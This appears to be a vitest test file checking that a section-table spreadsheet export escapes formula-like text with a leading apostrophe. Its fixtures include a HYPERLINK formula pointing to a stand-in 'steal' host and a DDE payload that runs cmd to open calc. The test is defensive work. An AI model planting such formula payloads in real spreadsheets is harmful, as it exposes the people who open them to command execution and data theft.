import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../app.ts';
import * as t from '../../db/schema/index.ts';
import { buildTestApp } from '../../test/build-test-app.ts';
import {
  createCatalog,
  createModel,
  createModelTableSection,
  createProductTree,
  createSite,
} from '../../test/factories.ts';
import { createTestDatabase, type TestDatabase } from '../../test/test-database.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/steal","Open drawing")';

describe('the section-table spreadsheet and text that looks like a formula', () => {
  let database: TestDatabase;
  let app: App;
  let query = '';

  beforeAll(async () => {
    database = await createTestDatabase();
    const { db } = database;
    await createCatalog(db);
    await createSite(db, { name: 'sales', hostNames: ['sales.localhost'], enableExport: true });
    const risky = await createModel(db, {
      pcnCatalogNumber: '130-0001',
      fingoodTpiMfgMod: HYPERLINK,
      notes: "@SUM(1+1)*cmd|' /C calc'!A0",
    });
    const plain = await createModel(db, { pcnCatalogNumber: '130-0002', notes: '-12.5' });
    const { product } = await createProductTree(db);
    const { table } = await createModelTableSection(db, product.productId, [
      risky.pcnCatalogNumber,
      plain.pcnCatalogNumber,
    ]);
    await db.insert(t.sectionTableLayoutColumn).values({
      sectionTableId: table.sectionTableId,
      propertyName: 'Notes',
      name: 'Notes',
      displayName: '+Notes',
      orderBy: 3,
    });
    query = `productId=${product.productId}&sectionTableId=${table.sectionTableId}`;
    app = await buildTestApp(db);
  });
  afterAll(async () => {
    await app.close();
    await database.drop();
  });

  it('writes it as text with a leading apostrophe, in cells and headers, and leaves numbers', async () => {
    const res = await app.inject({
      url: `/api/export/exportSectionTable?${query}`,
      headers: { host: 'sales.localhost' },
    });
    expect(res.statusCode, res.body).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(res.rawPayload).buffer);
    const sheet = workbook.worksheets[0]!;
    const values = (row: number) => (sheet.getRow(row).values as ExcelJS.CellValue[]).slice(1);
    expect(values(1)).toEqual(['Catalog #', 'Model #', "'+Notes"]);
    expect(values(2)).toEqual(['130-0001', `'${HYPERLINK}`, `'@SUM(1+1)*cmd|' /C calc'!A0`]);
    // No cell became a formula.
    expect(sheet.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(values(3)[2]).toBe('-12.5');
  });
});
